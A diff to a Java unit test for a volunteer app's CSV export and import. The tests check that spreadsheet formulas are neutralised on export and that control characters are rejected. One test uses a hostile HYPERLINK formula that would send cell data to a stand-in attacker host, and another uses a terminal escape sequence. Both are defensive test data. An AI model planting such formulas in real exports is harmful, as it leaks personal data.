@@ -18,18 +18,57 @@ import be.pillars.api.volunteer.VolunteerStatus;
 
 class VolunteerCsvTest {
 
+    private static final UUID ID = UUID.fromString("00000000-0000-0000-0000-00000000000a");
+
+    /** A volunteer as stored, its lists in a fixed order so that the file is always the same. */
+    private static Volunteer stored(VolunteerData an) {
+        return new Volunteer(ID, 1, new VolunteerData(an.firstName(), an.lastName(), an.email(), an.phone(),
+                an.birthDate(), an.postalCode(), an.district(), new TreeSet<>(an.languages()),
+                new TreeSet<>(an.skills()), an.interests(), an.availability(), an.unavailableDates(),
+                an.preference(), VolunteerStatus.ACTIVE, an.consents(), an.gender()), Instant.EPOCH, Instant.EPOCH);
+    }
+
     @Test
     void writesExcelFriendlyUtf8WithQuotingWhereNeeded() {
-        VolunteerData an = VolunteerServiceContract.an("Ann-Sofie", "D'Hondt; Peeters", "an@example.be");
-        UUID id = UUID.fromString("00000000-0000-0000-0000-00000000000a");
-        String csv = VolunteerCsv.write(List.of(new Volunteer(id, 1, new VolunteerData(an.firstName(), an.lastName(),
-                an.email(), an.phone(), an.birthDate(), an.postalCode(), an.district(), new TreeSet<>(an.languages()),
-                new TreeSet<>(an.skills()), an.interests(), an.availability(), an.unavailableDates(),
-                an.preference(), VolunteerStatus.ACTIVE, an.consents(), an.gender()),
-                Instant.EPOCH, Instant.EPOCH)));
+        String csv = VolunteerCsv.write(List.of(stored(VolunteerServiceContract.an("Ann-Sofie", "D'Hondt; Peeters",
+                "an@example.be"))));
         assertEquals("\uFEFF" + VolunteerCsv.HEADER_TEXT + "\r\n"
-                + "00000000-0000-0000-0000-00000000000a;Ann-Sofie;\"D'Hondt; Peeters\";an@example.be;+32 11 22 33 44;"
+                + "00000000-0000-0000-0000-00000000000a;Ann-Sofie;\"D'Hondt; Peeters\";an@example.be;'+32 11 22 33 44;"
                 + "1990-04-01;3500;Kiewit;en|nl;cooking|first-aid;sport;BOTH;ACTIVE\r\n", csv);
+    }
+
+    @Test
+    void aFormulaInANameIsExportedAsTextAndImportedBackAsStored() {
+        String formula = "=HYPERLINK(\"http://evil.example/?\"&B2,\"Open\")";
+        String csv = VolunteerCsv.write(List.of(stored(VolunteerServiceContract.an(formula, "-Peeters",
+                "an@example.be"))));
+        assertEquals("00000000-0000-0000-0000-00000000000a;\"'=HYPERLINK(\"\"http://evil.example/?\"\"&B2,"
+                + "\"\"Open\"\")\";'-Peeters;an@example.be;'+32 11 22 33 44;1990-04-01;3500;Kiewit;en|nl;"
+                + "cooking|first-aid;sport;BOTH;ACTIVE", csv.lines().toList().get(1));
+        VolunteerCsv.Parsed back = VolunteerCsv.read(csv.getBytes(StandardCharsets.UTF_8));
+        assertEquals(List.of(), back.problems());
+        VolunteerData an = back.volunteers().get(0);
+        assertEquals(List.of(formula, "-Peeters", "+32 11 22 33 44"), List.of(an.firstName(), an.lastName(),
+                an.phone()));
+        // a file made elsewhere, without the quote, is data too: the name is stored as it is written
+        VolunteerCsv.Parsed typed = read("firstName;lastName;email;postalCode;preference\n"
+                + "\"" + formula.replace("\"", "\"\"") + "\";@Peeters;an@example.be;3500;BOTH\n");
+        assertEquals(List.of(), typed.problems());
+        assertEquals(formula, typed.volunteers().get(0).firstName());
+        assertEquals("@Peeters", typed.volunteers().get(0).lastName());
+    }
+
+    @Test
+    void controlCharactersAreProblemsOfTheirLineAndColumn() {
+        VolunteerCsv.Parsed parsed = read("firstName;lastName;email;postalCode;preference;district;skills\n"
+                + "An\u0000;Peeters;an@example.be;3500;BOTH;;\n"
+                + "Bo;Claes;bo@example.be;3510;BOTH;\u001b[2JKiewit;cooking|\u009bfirst-aid\n"
+                + "Dirk;\"Lambrechts\nJanssens\";dirk@example.be;3500;BOTH;;\n");
+        // a lone surrogate cannot come in UTF-8 bytes: the strict decoder refuses the file (not_utf8)
+        assertEquals(List.of("2 firstName invalid_text", "3 district invalid_text", "3 skills invalid_text",
+                "4 lastName invalid_text"), parsed.problems().stream()
+                        .map(problem -> problem.row() + " " + problem.field() + " " + problem.code()).toList());
+        assertEquals("Tekst met een controleteken (U+001B) op positie 1", parsed.problems().get(1).text().nl());
     }
 
     private static VolunteerCsv.Parsed read(String text) {
@@ -70,5 +109,8 @@ class VolunteerCsvTest {
                 "surname unknown_column"), parsed.problems().stream()
                         .map(problem -> problem.field() + " " + problem.code()).sorted().toList());
         assertEquals("not_utf8", VolunteerCsv.read(new byte[] {(byte) 0xC3, (byte) 0x28}).problems().get(0).code());
+        // U+DC00 encoded on its own, as a lax encoder writes a lone surrogate
+        assertEquals("not_utf8", VolunteerCsv.read(new byte[] {'A', (byte) 0xED, (byte) 0xB0, (byte) 0x80}).problems()
+                .get(0).code());
     }
 }
